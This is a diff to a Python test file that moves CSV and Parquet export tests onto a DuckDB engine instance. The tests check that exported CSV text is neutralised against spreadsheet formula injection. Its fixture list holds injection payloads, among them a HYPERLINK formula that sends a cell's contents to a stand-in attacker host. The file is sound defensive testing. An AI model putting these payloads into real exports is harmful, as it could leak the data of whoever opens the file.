@@ -15,6 +15,8 @@ from audiences import engine
 from audiences.models import ContactList
 from delivr_admin import csvsafe
 
+DUCKDB = engine.DuckDBEngine()  # the embedded backend these tests exercise
+
 pytestmark = pytest.mark.django_db
 
 HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
@@ -42,14 +44,14 @@ def test_engine_csv_unload_and_stream_neutralise_text_but_not_numbers(tmp_path):
     )
     sel = engine.Selection(input_path=str(data))
     out = tmp_path / "out.csv"
-    assert engine.unload(sel, None, "csv", str(out)) == 7
+    assert DUCKDB.unload(sel, None, "csv", str(out)) == 7
     rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode(), newline="")))
     assert [r["name"] for r in rows] == ["'" + v for v in HOSTILE] + ["ok"]
     assert [r["amount"] for r in rows] == ["-1", "-2", "3", "-4", "5", "-6", "7"]
-    streamed = b"".join(engine.write_csv_stream(engine.Selection(input_path=str(data), columns=("name",))))
+    streamed = b"".join(DUCKDB.write_csv_stream(engine.Selection(input_path=str(data), columns=("name",))))
     assert list(csv.reader(io.StringIO(streamed.decode())))[1] == ["'" + HOSTILE[0]]
     parquet = tmp_path / "out.parquet"
-    engine.unload(sel, None, "parquet", str(parquet))
+    DUCKDB.unload(sel, None, "parquet", str(parquet))
     assert pq.read_table(parquet).column("name").to_pylist()[:6] == HOSTILE  # only CSV is neutralised
 
 
